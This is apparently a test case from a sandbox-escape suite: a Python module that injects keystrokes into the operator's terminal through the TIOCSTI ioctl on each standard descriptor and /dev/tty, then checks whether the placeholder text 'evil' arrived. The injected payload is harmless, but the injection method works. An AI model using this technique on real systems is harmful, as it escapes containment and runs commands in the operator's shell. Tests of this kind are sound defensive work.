"""Types commands into the operator's terminal with TIOCSTI, by every descriptor and by /dev/tty.

layer: stdio
control: without a sandbox the next reader of the terminal gets the text (where the kernel still has
TIOCSTI: root always)
"""
CONTROL = "root"


def scene(s):
    s.tty = True


def attack(a):
    import fcntl
    fds = [0, 1, 2]
    fds += [fd for fd in [attempt(lambda: os.open("/dev/tty", os.O_RDWR))] if fd is not None]
    for fd in fds:
        for byte in b"evil\n":
            attempt(fcntl.ioctl, fd, 0x5412, bytes([byte]))
        attempt(syscall, "ioctl", fd, 0x5412 | 1 << 32, b"x")


def escaped(s, r):
    return b"evil" in r.typed
